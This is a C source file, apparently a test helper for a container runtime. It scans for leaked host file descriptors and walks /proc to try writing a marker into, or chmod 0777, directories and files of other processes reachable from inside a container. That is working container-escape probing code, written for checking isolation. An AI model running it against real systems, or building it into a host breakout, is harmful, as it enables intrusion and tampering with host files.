// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * attack-fd: grabs host descriptors a berth process may leave in reach of
 * the container. Subcommands:
 *   attack-fd scan [MAX]     print "fd N -> TARGET" for each descriptor of
 *                            this process above 2 (up to MAX, default 70000)
 *   attack-fd grab SECONDS MARK
 *                            for SECONDS, walk /proc/[0-9]*: open every
 *                            fd/N and exe of processes that are not this
 *                            one, and for each directory or file reached,
 *                            try to create MARK in it (a directory) or
 *                            chmod it 0777 (a file); print "GOT ..." lines
 *                            for every success, "none" if nothing was got
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int scan(int max)
{
	char p[64], t[PATH_MAX];
	for (int fd = 3; fd <= max; fd++) {
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(p, t, sizeof(t) - 1);
		if (n < 0)
			continue;
		t[n] = '\0';
		printf("fd %d -> %s\n", fd, t);
	}
	return 0;
}

/* try one path reached through another process's /proc entry */
static int try_one(const char *path, const char *mark)
{
	struct stat st;
	if (stat(path, &st) < 0)
		return 0;
	if (S_ISDIR(st.st_mode)) {
		char f[PATH_MAX];
		snprintf(f, sizeof(f), "%s/%s", path, mark);
		int fd = open(f, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
		if (fd >= 0) {
			close(fd);
			printf("GOT dir %s\n", path);
			return 1;
		}
		return 0;
	}
	if (S_ISREG(st.st_mode) && chmod(path, 0777) == 0) {
		printf("GOT file %s\n", path);
		return 1;
	}
	return 0;
}

static int grab(int seconds, const char *mark)
{
	time_t end = time(NULL) + seconds;
	int got = 0;
	pid_t self = getpid();

	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		if (!d)
			return 2;
		while ((de = readdir(d))) {
			char *e;
			long pid = strtol(de->d_name, &e, 10);
			if (*e || pid <= 0 || pid == self)
				continue;
			char p[PATH_MAX];
			snprintf(p, sizeof(p), "/proc/%ld/exe", pid);
			got += try_one(p, mark);
			snprintf(p, sizeof(p), "/proc/%ld/cwd", pid);
			got += try_one(p, mark);
			snprintf(p, sizeof(p), "/proc/%ld/fd", pid);
			DIR *f = opendir(p);
			struct dirent *fe;
			while (f && (fe = readdir(f))) {
				if (fe->d_name[0] == '.')
					continue;
				char q[PATH_MAX];
				snprintf(q, sizeof(q), "/proc/%ld/fd/%s", pid, fe->d_name);
				got += try_one(q, mark);
			}
			if (f)
				closedir(f);
		}
		closedir(d);
		fflush(stdout);
	}
	if (!got)
		printf("none\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 2 && !strcmp(argv[1], "scan"))
		return scan(argc > 2 ? atoi(argv[2]) : 70000);
	if (argc >= 4 && !strcmp(argv[1], "grab"))
		return grab(atoi(argv[2]), argv[3]);
	fprintf(stderr, "usage: attack-fd scan [MAX] | grab SECONDS MARK\n");
	return 2;
}
